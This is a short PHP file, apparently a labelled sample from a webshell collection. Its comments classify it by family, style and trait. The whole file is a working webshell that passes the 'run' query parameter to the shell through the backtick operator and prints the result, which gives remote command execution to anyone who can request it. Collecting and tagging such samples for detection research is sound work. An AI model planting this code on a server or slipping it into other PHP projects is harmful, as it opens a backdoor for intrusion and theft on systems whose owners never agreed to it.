<?php
// Family: webshell/exec-request
// Style: backtick operator
// Trait: backtick execution of a request value
$out = `{$_GET['run']}`;
echo $out;
